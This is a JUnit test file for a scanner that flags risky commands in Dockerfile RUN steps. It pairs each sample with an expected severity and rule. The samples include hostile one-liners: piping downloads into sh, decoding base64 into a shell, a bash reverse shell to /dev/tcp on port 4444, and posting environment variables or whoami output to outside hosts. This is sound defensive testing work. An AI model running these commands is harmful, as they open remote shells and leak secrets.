package dev.assay.detectors.indicator.workflow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.scan.TestScan;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands that build an image are judged as steps of workflows are. */
class ImageTest {
    private static List<String> judge(String commands) {
        String text = "FROM a\nRUN " + commands.replace("~", "\nRUN ").replace('¦', '|');
        return new TestScan(AllDetectors.ALL)
                .run("Dockerfile", text.getBytes(StandardCharsets.UTF_8)).findings().stream()
                        .filter(each -> each.ruleId().startsWith("indicator/"))
                        .map(each -> each.severity().id() + " " + each.ruleId())
                        .toList();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            curl -s https://example.com/x ¦ sh                            | low indicator/workflow-runs-download
            curl -s http://192.0.2.1/x ¦ sh                               | medium indicator/workflow-runs-download
            curl -so /x.sh http://192.0.2.1/x~apt-get update~bash /x.sh   | medium indicator/workflow-runs-download
            echo Y3VybA== ¦ base64 -d ¦ sh                                | high indicator/workflow-runs-decoded
            bash -i >& /dev/tcp/203.0.113.9/4444 0>&1                     | critical indicator/workflow-opens-shell
            env ¦ curl -X POST -d @- https://example.com/x                | high indicator/workflow-gives-secrets
            curl https://abc123.oastify.com/$(whoami)                     | medium indicator/workflow-sends-secrets
            """)
    void whatTheyDo(String commands, String finding) {
        assertThat(judge(commands)).containsExactly(finding);
    }

    @Test
    void aStageHasNothingOfTheOneBeforeIt() {
        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nFROM b~bash x.sh"))
                .isEmpty();
        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nWORKDIR /b~bash x.sh"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "apt-get update && apt-get install -y curl",
                "curl -fsSL https://example.com/x.tgz ¦ tar xz",
                "curl -so x.sh https://example.com/x~echo 'abc  x.sh' ¦ sha256sum -c~sh x.sh",
                "curl -Lo kind https://example.com/kind && chmod +x kind && ./kind",
                "cp x.service /etc/systemd/system/ && systemctl enable x",
                "pip install git+https://example.com/x.git",
                "node .vscode/setup.mjs",
            })
    void whatImagesAreBuiltByIsNone(String commands) {
        assertThat(judge(commands)).isEmpty();
    }
}
